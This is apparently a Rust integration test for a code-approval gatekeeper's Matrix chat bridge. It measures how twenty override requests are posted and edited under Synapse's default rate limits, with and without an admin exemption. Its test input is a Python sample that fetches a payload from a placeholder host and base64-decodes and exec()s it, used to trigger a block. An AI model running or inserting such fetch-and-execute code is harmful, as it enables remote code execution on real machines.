//! A burst of override requests through the whole stack into a real Synapse at its default rate
//! limits (`rc_message`: 0.2 messages a second per user after a burst of 10, which the bot's
//! account is under like any other): all 20 requests are posted, then, once answered, every
//! message is edited to its final state; nothing is lost to the homeserver's 429s; requests that
//! come meanwhile are posted before the edits that wait. Each request
//! needs at least two of the bot's messages (the post and its final edit), so 20 requests take
//! at least (40 - 10) / 0.2 = 150 s at those limits, whatever the bridge does; with the bot
//! exempted by Synapse's admin API (the fix docs/overrides.md gives), the same burst is done in
//! seconds. The times are printed (measured figures for docs/benchmarks.md, not assertions: the
//! issue's one-minute target is a speed target).

#[path = "../bridge/mod.rs"]
mod bridge;

use airlock_tests::Stack;
use bridge::matrix::{MatrixUser, body, edits};
use bridge::synapse::Synapse;
use serde_json::Value;
use std::collections::BTreeMap;
use std::process::Child;
use std::time::{Duration, Instant};

const BOT: &str = "@airlock:localhost";
const ALICE: &str = "@alice:localhost";
const BURST: usize = 20;
/// Requests that come while the burst's edits wait for the homeserver.
const SECOND_WAVE: usize = 5;

/// External code that downloads and executes a payload: BLOCKED by the assessor. Each request
/// is a different program (its own comment), so no approval or decision of one covers another.
fn blocked(n: usize) -> String {
    format!(
        "# burst request {n}\nimport base64, urllib.request\npayload = urllib.request.urlopen('http://example.invalid/p').read()\nexec(base64.b64decode(payload))\n"
    )
}

fn pending(stack: &Stack) -> Vec<String> {
    let out = stack.output(&["override", "list", "--json"]);
    serde_json::from_slice::<Value>(&out.stdout)
        .ok()
        .and_then(|v| v.as_array().cloned())
        .unwrap_or_default()
        .iter()
        .filter_map(|p| p["request_id"].as_str().map(str::to_owned))
        .collect()
}

/// The bot's first post of each request seen in the room: request id → event id.
fn posts(events: &[Value], ids: &[String]) -> BTreeMap<String, String> {
    events
        .iter()
        .filter(|e| e["sender"] == BOT && e["content"]["m.relates_to"].is_null())
        .filter_map(|e| {
            let text = body(e);
            let rid = ids.iter().find(|rid| text.contains(&format!("Request `{rid}`")))?;
            Some((rid.clone(), e["event_id"].as_str()?.to_owned()))
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_burst_of_twenty_requests_is_posted_and_edited_under_synapses_default_rate_limits() {
    burst(false).await;
}

/// The fix docs/overrides.md gives an admin whose bot is rate-limited: Synapse's admin API
/// exempts the bot's account (`override_ratelimit`), and the same burst is posted and edited at
/// once.
#[tokio::test(flavor = "multi_thread")]
async fn a_burst_with_the_bot_exempted_by_synapses_admin_api() {
    burst(true).await;
}

async fn burst(exempt_bot: bool) {
    let synapse = tokio::task::spawn_blocking(Synapse::start_with_default_limits)
        .await
        .expect("synapse");
    for name in ["airlock", "alice"] {
        synapse.register(name, &format!("pw-{name}-1"));
    }
    let bot = MatrixUser::login(&synapse.url, "airlock", "pw-airlock-1").await;
    let alice = MatrixUser::login(&synapse.url, "alice", "pw-alice-1").await;
    if exempt_bot {
        synapse.register_admin("admin", "pw-admin-1");
        let admin = MatrixUser::login(&synapse.url, "admin", "pw-admin-1").await;
        let exempted = reqwest::Client::new()
            .post(format!(
                "{}/_synapse/admin/v1/users/{BOT}/override_ratelimit",
                synapse.url
            ))
            .bearer_auth(&admin.token)
            .json(&serde_json::json!({ "messages_per_second": 0, "burst_count": 0 }))
            .send()
            .await
            .expect("override_ratelimit");
        assert!(exempted.status().is_success(), "{:?}", exempted.text().await);
    }
    let room = alice.create_room(&[BOT]).await;
    let config = bridge::matrix_section(&synapse, BOT, &bot.token, &room, &[ALICE]);
    let stack = tokio::task::spawn_blocking(move || Stack::start_with(&config))
        .await
        .expect("stack");
    // The bot has joined (it posts nothing until a request comes).
    let joined = Instant::now();
    loop {
        let members = reqwest::Client::new()
            .get(format!("{}/_matrix/client/v3/rooms/{room}/joined_members", synapse.url))
            .bearer_auth(&alice.token)
            .send()
            .await
            .expect("members")
            .json::<Value>()
            .await
            .expect("members json");
        if members["joined"][BOT].is_object() {
            break;
        }
        assert!(
            joined.elapsed() < Duration::from_secs(60),
            "the bot never joined: {members}"
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }

    // The burst: twenty `airlock run`s at once.
    let start = Instant::now();
    let children: Vec<Child> = (0..BURST)
        .map(|n| stack.run_in_background(&format!("burst-{n}.py"), &blocked(n), &["--origin", "external"]))
        .collect();
    let ids = loop {
        let ids = pending(&stack);
        if ids.len() == BURST {
            break ids;
        }
        assert!(
            start.elapsed() < Duration::from_secs(120),
            "only {} of {BURST} requests became pending:\n{}",
            ids.len(),
            stack.diagnostics()
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    };
    let all_pending = start.elapsed();

    // Every request is posted.
    let posted = loop {
        let posted = posts(&alice.messages(&room).await, &ids);
        if posted.len() == BURST {
            break posted;
        }
        assert!(
            start.elapsed() < Duration::from_secs(600),
            "{} of {BURST} requests posted after {:?}",
            posted.len(),
            start.elapsed()
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    };
    let all_posted = start.elapsed();

    // All answered at once (denied, so that nothing runs and only the chat is measured).
    let answered = Instant::now();
    for rid in &ids {
        stack.answer("deny", rid, "burst test: not needed");
    }
    let answers_sent = answered.elapsed();
    // A second wave arrives while those edits wait their turn: new requests go first.
    let second: Vec<Child> = (0..SECOND_WAVE)
        .map(|n| {
            let n = BURST + n;
            stack.run_in_background(&format!("burst-{n}.py"), &blocked(n), &["--origin", "external"])
        })
        .collect();
    // Every message is edited to its final state.
    loop {
        let events = alice.messages(&room).await;
        let final_edits = posted
            .values()
            .filter(|post| {
                events
                    .iter()
                    .any(|e| e["sender"] == BOT && edits(e, post) && body(e).contains("DENIED"))
            })
            .count();
        if final_edits == BURST {
            break;
        }
        assert!(
            answered.elapsed() < Duration::from_secs(600),
            "{final_edits} of {BURST} messages edited to their final state after {:?}",
            answered.elapsed()
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    let all_final = answered.elapsed();
    let total = start.elapsed();
    let second_ids = pending(&stack);
    assert_eq!(second_ids.len(), SECOND_WAVE, "{second_ids:?}");
    let events = alice.messages(&room).await;
    let position = |want: &dyn Fn(&Value) -> bool| events.iter().position(|e| e["sender"] == BOT && want(e));
    let last_second_post = second_ids
        .iter()
        .map(|rid| {
            position(&|e: &Value| {
                e["content"]["m.relates_to"].is_null() && body(e).contains(&format!("Request `{rid}`"))
            })
        })
        .collect::<Option<Vec<usize>>>()
        .and_then(|at| at.into_iter().max());
    let edits_after = posted
        .values()
        .filter_map(|post| position(&|e: &Value| edits(e, post) && body(e).contains("DENIED")))
        .filter(|at| last_second_post.is_some_and(|last| *at > last))
        .count();
    if !exempt_bot {
        // Posted within the first few of the homeserver's slots, before most of the edits.
        assert!(
            edits_after >= BURST * 3 / 4,
            "the second wave was not posted first: posted at {last_second_post:?}, before only {edits_after} of {BURST} final edits"
        );
    }
    for rid in &second_ids {
        stack.answer("deny", rid, "burst test: the second wave is not needed either");
    }
    for child in second {
        assert_eq!(airlock_tests::finish_run(child).0["decision"], "denied");
    }
    for child in children {
        let (json, code) = airlock_tests::finish_run(child);
        assert_eq!(json["decision"], "denied", "{json}");
        assert_eq!(code, 4, "{json}");
    }
    let status = stack.output(&["status", "--json"]);
    let report: Value = serde_json::from_slice(&status.stdout).unwrap_or_default();
    let counters = &report["services"]["airlock-chat-bridge"][0]["counters"];
    // The test means something only if the homeserver did hold the bot back (its defaults are
    // in force), and the exempted bot was never held back.
    let rate_limited = counters["chat_rate_limited"].as_u64().unwrap_or(0);
    if exempt_bot {
        assert_eq!(rate_limited, 0, "the exempted bot was rate-limited: {counters}");
    } else {
        assert!(rate_limited > 0, "Synapse never rate-limited the bot: {counters}");
    }
    let bot_messages = alice
        .messages(&room)
        .await
        .iter()
        .filter(|e| e["sender"] == BOT)
        .count();
    println!(
        "burst of {BURST} under Synapse's default rc_message (0.2/s, burst 10){}: all pending {:.1} s, all posted {:.1} s after the burst; answers sent in {:.1} s; all edited to their final state {:.1} s after the first answer (a second wave of {SECOND_WAVE} requests posted in between, before {edits_after} of those edits); {:.1} s in all; {bot_messages} bot messages; 429s waited out {}, other chat failures {}",
        if exempt_bot { ", the bot exempted" } else { "" },
        all_pending.as_secs_f64(),
        all_posted.as_secs_f64(),
        answers_sent.as_secs_f64(),
        all_final.as_secs_f64(),
        total.as_secs_f64(),
        counters["chat_rate_limited"],
        counters["chat_failures"]
    );
}
